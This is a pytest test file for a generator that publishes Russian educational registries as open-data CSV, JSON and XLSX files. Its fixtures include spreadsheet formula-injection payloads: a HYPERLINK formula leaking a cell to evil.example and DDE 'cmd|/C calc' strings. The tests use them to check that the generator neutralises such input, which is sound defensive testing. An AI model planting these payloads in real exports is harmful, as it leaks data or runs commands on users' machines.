"""Open data (issue 10): the registries as datasets of the Russian open data recommendations v3.0.

The files are written to a folder and read back as a consumer reads them (``csv``, ``json``, openpyxl);
every expectation comes from the content files themselves (glob + YAML), from hand-written data, or from the
recommendations' layout written out here, never from the code under test.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup

from generator.common.problems import InnopubError
from generator.common.russian import human_size
from generator.coordinators.datasets import MISSING_SETTINGS, enabled
from generator.coordinators.opendata import Catalogue, Column, Dataset, page_context, publish, write, xlsx
from generator.model.load import load_content
from generator.pages.catalog import PageSpec
from generator.render.renderer import Renderer
from generator.settings.options import make_settings
from tests.conftest import ROOT, TODAY, write_files
from tests.fixtures.opendata import (
    DATA_NAME,
    INN,
    PUBLISHER,
    SITE_URL,
    catalogue_of,
    dataset_folder,
    files_of,
    front_matters,
    local,
    read_csv,
    settings,
)

STANDARD = "http://opendata.gosmonitor.ru/standard/3.0"
NAMES = ["organizations", "platforms", "reports", "practices", "events"]
"""The registries: a row per published entry."""
MONITORING = ["reportingyears", "statusterms", "monitoringyears"]
"""The monitoring's tables (tests/test_monitoring_datasets.py), each an XLSX too."""
DATASETS = [*NAMES, "decisionpoints", *MONITORING]
"""Every dataset; the decisions' points are tested in tests/test_decisions.py."""
PASSPORT_HEAD = [
    "standardversion", "identifier", "title", "description", "creator", "created", "modified", "subject", "format",
    "provenance", "valid", "publishername", "publisherphone", "publishermbox",
]  # fmt: skip
"""The passport's properties in the order of the recommendations, before the rows of the data and structure files."""
STATUS_NAMES = {
    "ФИП": "федеральная инновационная площадка",
    "РИП": "региональная инновационная площадка",
    "ГИП": "городская инновационная площадка",
    "МИП": "муниципальная инновационная площадка",
    "ЛОИ": "районная лаборатория образовательных инноваций",
    "ЭП": "экспериментальная площадка",
    "РЦОО": "ресурсный центр общего образования",
    "БП": "базовая площадка",
}
"""As the glossary writes them."""


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[Catalogue, Path]:
    site = tmp_path_factory.mktemp("opendata")
    catalogue = catalogue_of(ROOT / "content")
    write(catalogue, site)
    return catalogue, site


def test_list_csv_names_every_dataset_with_its_passport(published: tuple[Catalogue, Path]) -> None:
    _, site = published
    rows = read_csv(site / "opendata" / "list.csv")
    assert rows[0] == ["property", "title", "value", "format"]
    assert rows[1] == ["standardversion", "Версия методических рекомендаций", STANDARD, ""]
    assert [r[0] for r in rows[2:]] == [f"{INN}-{name}" for name in DATASETS]
    for identifier, title, meta, fmt in rows[2:]:
        assert meta == f"{SITE_URL}opendata/{identifier}/meta.csv" and fmt == "csv"
        passport = dict(read_csv(local(meta, site))[1:])
        assert passport["title"] == title


@pytest.mark.parametrize("name", DATASETS)
def test_passport_follows_the_recommendations(published: tuple[Catalogue, Path], name: str) -> None:
    _, site = published
    folder = dataset_folder(site, name)
    passport, _, _, data_path = files_of(folder)
    assert passport[0] == ["property", "value"]
    assert [row[0] for row in passport[1 : 1 + len(PASSPORT_HEAD)]] == PASSPORT_HEAD
    assert all(len(row) == 2 for row in passport)
    values = dict(passport[1:])
    assert values["standardversion"] == STANDARD
    assert values["identifier"] == f"{INN}-{name}" == folder.name
    assert re.fullmatch(r"[A-Za-z0-9]+", values["identifier"].split("-", 1)[1])
    assert values["format"] == "csv"
    assert values["creator"] == values["publishername"] == "МКУ «ИМЦ»"
    assert (values["publisherphone"], values["publishermbox"]) == ("+7 (81733) 2-12-34", "opendata@imc.example.ru")
    assert values["title"] and values["description"] and values["subject"] and values["provenance"]
    for key in ("created", "modified", "valid"):
        assert dt.datetime.strptime(values[key], "%Y%m%d")
    data_date, structure_date = DATA_NAME.match(data_path.name).groups()
    assert data_date == values["modified"] and structure_date <= data_date
    assert values[f"structure-{structure_date}"] == f"{SITE_URL}opendata/{folder.name}/structure-{structure_date}.csv"
    assert len(passport) == 1 + len(PASSPORT_HEAD) + 2  # the rows of one data and one structure file


@pytest.mark.parametrize("name", NAMES)
def test_data_header_is_the_structure_and_rows_are_the_published_entries(published: tuple[Catalogue, Path], name: str) -> None:
    _, site = published
    _, data, structure, _ = files_of(dataset_folder(site, name))
    assert structure[0] == ["field name", "english description", "russian description", "format"]
    assert all(len(row) == 4 and row[3] in ("string", "integer", "date") and re.fullmatch(r"[a-z][a-z0-9]*", row[0]) for row in structure[1:])
    assert data[0] == [row[0] for row in structure[1:]]
    assert all(len(row) == len(data[0]) for row in data)
    expected = front_matters(ROOT / "content", name)
    assert len(data) - 1 == len(expected) > 0
    assert sorted(row[0] for row in data[1:]) == sorted(expected)
    pages = [row[data[0].index("page")] for row in data[1:]]
    assert pages == [f"{SITE_URL}{name}/{row[0]}/" for row in data[1:]]


def test_dates_in_names_come_from_the_content(published: tuple[Catalogue, Path]) -> None:
    """created = the earliest content date of the rows, modified = the latest that is not after the site's today."""
    _, site = published
    today = dt.date.fromisoformat(TODAY)
    for name, key in (("reports", "date"), ("practices", "date"), ("events", "date"), ("platforms", "start")):
        days = sorted(meta[key] for meta in front_matters(ROOT / "content", name).values())
        values = dict(read_csv(dataset_folder(site, name) / "meta.csv")[1:])
        assert values["created"] == f"{days[0]:%Y%m%d}"
        assert values["modified"] == f"{max(d for d in days if d <= today):%Y%m%d}"
    assert any(d > today for d in (m["date"] for m in front_matters(ROOT / "content", "events").values())), "the demo announces an event"


def test_platform_columns_hold_ids_and_readable_values(published: tuple[Catalogue, Path]) -> None:
    _, site = published
    _, data, _, _ = files_of(dataset_folder(site, "platforms"))
    organizations = front_matters(ROOT / "content", "organizations")
    platforms = front_matters(ROOT / "content", "platforms")
    rows = [dict(zip(data[0], row, strict=True)) for row in data[1:]]
    for row in rows:
        meta = platforms[row["id"]]
        assert row["theme"] == meta["title"]
        assert (row["statuscode"], row["statusname"]) == (meta["status"], STATUS_NAMES[meta["status"]])
        assert row["organizations"] == "; ".join(meta["organizations"])
        assert row["organizationnames"] == "; ".join(organizations[o]["short"] for o in meta["organizations"])
        assert row["municipality"] == "; ".join(dict.fromkeys(organizations[o]["municipality"] for o in meta["organizations"]))
        assert row["start"] == meta["start"].isoformat() and row["end"] == (meta["end"].isoformat() if meta.get("end") else "")
    assert any(";" in row["organizations"] for row in rows), "the demo has a cooperation"


@pytest.mark.parametrize("name", DATASETS)
def test_json_holds_the_same_rows(published: tuple[Catalogue, Path], name: str) -> None:
    _, site = published
    _, data, structure, data_path = files_of(dataset_folder(site, name))
    document = json.loads(data_path.with_suffix(".json").read_bytes().decode("utf-8"))
    assert list(document) == ["identifier", "title", "standardversion", "created", "modified", "structure", "data"]
    assert document["identifier"] == f"{INN}-{name}"
    assert [[f["name"], f["english"], f["russian"], f["format"]] for f in document["structure"]] == structure[1:]
    assert all(list(row) == data[0] for row in document["data"])
    as_text = [["" if v is None else str(v) for v in row.values()] for row in document["data"]]
    assert as_text == data[1:]


@pytest.mark.parametrize("name", DATASETS)
def test_xlsx_opens_with_the_same_cells(published: tuple[Catalogue, Path], name: str) -> None:
    catalogue, site = published
    _, data, structure, _ = files_of(dataset_folder(site, name))
    dataset = next(p.dataset for p in catalogue.datasets if p.dataset.name == name)
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx(dataset)))
    assert workbook.sheetnames == ["Данные", "Структура"]
    sheet = [[c.value for c in row] for row in workbook["Данные"].iter_rows()]
    assert sheet[0] == [row[2] for row in structure[1:]]  # the Russian descriptions, for coordinators
    formats = [row[3] for row in structure[1:]]

    def as_csv(value: object, fmt: str) -> str:
        if value is None:
            return ""
        return value.date().isoformat() if fmt == "date" else str(value)

    assert [[as_csv(v, f) for v, f in zip(row, formats, strict=True)] for row in sheet[1:]] == data[1:]
    # the structure in Russian (issue 21): each field's name, its column's header, its English description, its format
    russian = {"string": "строка", "integer": "целое число", "date": "дата"}
    head = ["Поле в CSV и JSON", "Заголовок столбца на листе «Данные»", "Описание на английском", "Формат"]
    expected = [head, *([name, ru, en, russian[fmt]] for name, en, ru, fmt in structure[1:])]
    assert [[c.value for c in row] for row in workbook["Структура"].iter_rows()] == expected


def test_writing_twice_gives_identical_bytes(published: tuple[Catalogue, Path]) -> None:
    first, _ = published
    again = catalogue_of(ROOT / "content")
    assert [(f.path, f.data) for f in again.files()] == [(f.path, f.data) for f in first.files()]
    for published in first.datasets:
        dataset = published.dataset
        one, two = xlsx(dataset, published.passport), xlsx(dataset, published.passport)
        assert one == two
        archive = zipfile.ZipFile(io.BytesIO(one))
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
        stamp = f"{dataset.modified.isoformat()}T00:00:00Z"
        assert re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]+)<", core) == [stamp, stamp]


def test_every_dataset_gets_an_xlsx_file(tmp_path: Path) -> None:
    table = Dataset(
        "monitoring", "Мониторинг", "Проба.", ("мониторинг",),
        (Column("id", "Площадка", "Platform"), Column("reports", "Отчётов", "Reports", "integer")),
        (("a", 2), ("b", None)), dt.date(2024, 9, 1), dt.date(2025, 9, 15),
    )  # fmt: skip
    catalogue = publish([table], settings().opendata, SITE_URL)
    write(catalogue, tmp_path)
    folder = tmp_path / "opendata" / f"{INN}-monitoring"
    assert sorted(p.name for p in folder.iterdir()) == [
        "data-20250915-structure-20240901.csv",
        "data-20250915-structure-20240901.json",
        "data-20250915-structure-20240901.xlsx",
        "meta.csv",
        "structure-20240901.csv",
    ]
    workbook = openpyxl.load_workbook(folder / "data-20250915-structure-20240901.xlsx")
    assert [[c.value for c in row] for row in workbook["Данные"].iter_rows()] == [["Площадка", "Отчётов"], ["a", 2], ["b", None]]
    passport = list(workbook["Паспорт"].iter_rows(values_only=True))
    assert passport[0] == ("Характеристика", "Значение", "Обозначение в meta.csv")
    assert ("Идентификационный номер", f"{INN}-monitoring", "identifier") in passport


ORG = "---\ntitle: {title}\nshort: {short}\nmunicipality: {municipality}\naddress: {address}\n---\n"
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")',
    "short": "+7 (999) 000-00-00",
    "municipality": "-2+3+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SYNTHETIC = {
    "organizations/zlo.md": ORG.format(**{k: json.dumps(v, ensure_ascii=False) for k, v in HOSTILE.items()}),
    "organizations/shkola-1.md": ORG.format(title="Школа № 1", short="«Школа № 1»", municipality="г. Сокол", address="ул. Мира, 1"),
    "organizations/shkola-2.md": ORG.format(title="Школа № 2", short="«Школа № 2»", municipality="г. Кадников", address="ул. Мира, 2"),
    "platforms/koop.md": "---\ntitle: Кооперация\nstatus: РИП\norganizations: [shkola-2, shkola-1]\nstart: 2022-09-01\n---\n",
    "platforms/chernovik.md": "---\ntitle: Черновик\nstatus: МИП\norganizations: [shkola-1]\nstart: 2019-09-01\ndraft: true\n---\n",
    "reports/koop-2023.md": "---\ntitle: Отчёт\ndate: 2023-06-20\nplatform: koop\nperiod: 2022/2023\nauthors: [Иванова Анна Петровна]\n---\n",
    "events/seminar.md": "---\ntitle: Семинар\nkind: семинар\ndate: 2023-02-01\nplace: ИМЦ\norganizers: [zlo]\nparticipants: 12\n---\n",
}


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> tuple[Catalogue, Path]:
    root = tmp_path_factory.mktemp("synthetic")
    write_files(root / "content", SYNTHETIC)
    catalogue = catalogue_of(root / "content")
    write(catalogue, root / "site")
    return catalogue, root


def test_synthetic_tree_counts_drafts_and_cooperation(synthetic: tuple[Catalogue, Path]) -> None:
    _, root = synthetic
    site = root / "site"
    for name in NAMES:
        _, data, _, _ = files_of(dataset_folder(site, name))
        assert len(data) - 1 == len(front_matters(root / "content", name)), name
    _, data, _, _ = files_of(dataset_folder(site, "platforms"))
    expected = {
        "id": "koop", "statuscode": "РИП", "statusname": "региональная инновационная площадка",
        "organizations": "shkola-2; shkola-1", "organizationnames": "«Школа № 2»; «Школа № 1»",
        "municipality": "г. Кадников; г. Сокол", "start": "2022-09-01", "end": "", "reports": "koop-2023",
        "page": f"{SITE_URL}platforms/koop/",
    }  # fmt: skip
    row = dict(zip(data[0], data[1], strict=True))
    assert {key: row[key] for key in expected} == expected
    values = dict(read_csv(dataset_folder(site, "platforms") / "meta.csv")[1:])
    assert values["created"] == values["modified"] == "20220901"  # the draft's 2019 is not published
    _, data, _, _ = files_of(dataset_folder(site, "events"))
    assert data[1][data[0].index("participants")] == "12"


def test_formulas_in_content_are_neutralised(synthetic: tuple[Catalogue, Path]) -> None:
    """CSV: a leading apostrophe (OWASP «CSV Injection»), so that Excel and LibreOffice show the text and run nothing;
    the apostrophe is visible. XLSX: text cells, never formulas, with the CSV's text (an edited cell runs nothing
    either). JSON is read by programs, not spreadsheets: exact text. (Formulas inside a cell, after «;» or a line
    break: tests/test_hostile_opendata.py.)"""
    catalogue, root = synthetic
    _, data, _, data_path = files_of(dataset_folder(root / "site", "organizations"))
    row = dict(zip(data[0], next(r for r in data[1:] if r[0] == "zlo"), strict=True))
    for key, column in (("title", "fullname"), ("short", "shortname"), ("municipality", "municipality"), ("address", "address")):
        assert row[column] == "'" + HOSTILE[key]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in data for cell in r)
    document = json.loads(data_path.with_suffix(".json").read_text(encoding="utf-8"))
    assert next(r for r in document["data"] if r["id"] == "zlo")["fullname"] == HOSTILE["title"]
    _, events, _, _ = files_of(dataset_folder(root / "site", "events"))
    assert events[1][events[0].index("organizernames")] == "'" + HOSTILE["short"]

    dataset = next(p.dataset for p in catalogue.datasets if p.dataset.name == "organizations")
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx(dataset)))
    cells = [c for r in workbook["Данные"].iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    found = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    for text in HOSTILE.values():
        assert found["'" + text] == "s"
    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx(dataset))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_opendata_page_lists_every_dataset_with_passport_sizes_and_links(published: tuple[Catalogue, Path]) -> None:
    catalogue, site = published
    model, _ = load_content(ROOT / "content", settings())
    spec = PageSpec("opendata/index.md", "Открытые данные", "innopub/opendata.html", page_context(catalogue))
    before, after = Renderer([ROOT / "theme"], model).render_parts(spec, "opendata/")
    page = BeautifulSoup(before + after, "lxml")
    titles = [h.get_text(strip=True) for h in page.find_all("h2")]
    assert titles == [dict(read_csv(dataset_folder(site, n) / "meta.csv")[1:])["title"] for n in DATASETS]
    links = {a["href"] for a in page.find_all("a") if not a["href"].startswith("#")}
    written = {p.relative_to(site / "opendata").as_posix() for p in (site / "opendata").rglob("*") if p.is_file()}
    assert links == written
    for a in page.select("a[download]"):
        assert a["download"] == (f"{INN}-list.csv" if a["href"] == "list.csv" else a["href"].replace("/", "-"))  # issue 21
    for a in page.select("table:has(caption:-soup-contains('Файлы набора')) a[download], p a[download]"):
        size = (site / "opendata" / a["href"]).stat().st_size
        assert human_size(size) in a.find_parent(["tr", "p"]).get_text()
    for name in DATASETS:
        section = page.find("section", attrs={"aria-labelledby": f"{INN}-{name}"})
        passport = {th.get_text(strip=True): th.find_next_sibling("td").get_text(strip=True) for th in section.select("tbody th[scope=row]")}
        assert passport["Идентификационный номер"] == f"{INN}-{name}"
        assert passport["Версия методических рекомендаций"] == STANDARD
    assert all(th.get("scope") in ("row", "col") for th in page.find_all("th"))


@pytest.mark.parametrize("inn", ["7707083893", "7708234640", "3444200448", "500100732259", INN])
def test_inn_with_correct_check_digits_is_accepted(inn: str) -> None:
    """Real INNs of Sberbank, Rosstat, a Volgograd publisher; a person's 12-digit INN cited as a valid example."""
    assert make_settings({"opendata": {**PUBLISHER, "inn": inn}}, "mkdocs.yml").opendata.inn == inn


@pytest.mark.parametrize(
    ("inn", "message"),
    [
        ("7707083894", "ИНН 7707083894 с неверными контрольными цифрами"),
        ("500100732258", "ИНН 500100732258 с неверными контрольными цифрами"),
        ("500100732269", "ИНН 500100732269 с неверными контрольными цифрами"),
        ("77070838931", "«77070838931» — не ИНН (ожидается 10 цифр"),
        ("77О7083893", "не ИНН"),
        (0o274062111, "прочитан как число (запишите его в кавычках"),
    ],
)
def test_inn_with_wrong_check_digits_is_refused_in_russian(inn: str | int, message: str) -> None:
    with pytest.raises(InnopubError, match=re.escape(message)) as error:
        make_settings({"opendata": {**PUBLISHER, "inn": inn}}, "mkdocs.yml")
    assert "opendata.inn" in str(error.value)


def test_report_due_is_a_day_of_every_year() -> None:
    assert make_settings({}, "m").report_due == "09-15" and make_settings({}, "m").opendata is None
    assert make_settings({"report_due": "10-01"}, "m").report_due == "10-01"
    for bad in ("02-29", "13-01", "15.09"):
        with pytest.raises(InnopubError, match="не день срока сдачи отчёта"):
            make_settings({"report_due": bad}, "m")


def test_dataset_refuses_what_the_recommendations_do_not_allow() -> None:
    column = (Column("id", "Идентификатор", "Id"),)
    with pytest.raises(ValueError, match="Latin"):
        Dataset("реестр", "Т", "О", (), column, (), dt.date(2024, 1, 1), dt.date(2024, 1, 1))
    with pytest.raises(ValueError, match="integer"):
        Dataset("x", "Т", "О", (), (Column("n", "Ч", "N", "integer"),), (("1",),), dt.date(2024, 1, 1), dt.date(2024, 1, 1))
    with pytest.raises(ValueError, match="unique"):
        Dataset("x", "Т", "О", (), column * 2, (), dt.date(2024, 1, 1), dt.date(2024, 1, 1))


def test_without_opendata_settings_nothing_is_built() -> None:
    assert not enabled(make_settings({}, "mkdocs.yml")) and enabled(settings())
    assert "opendata" in MISSING_SETTINGS and "ИНН" in MISSING_SETTINGS
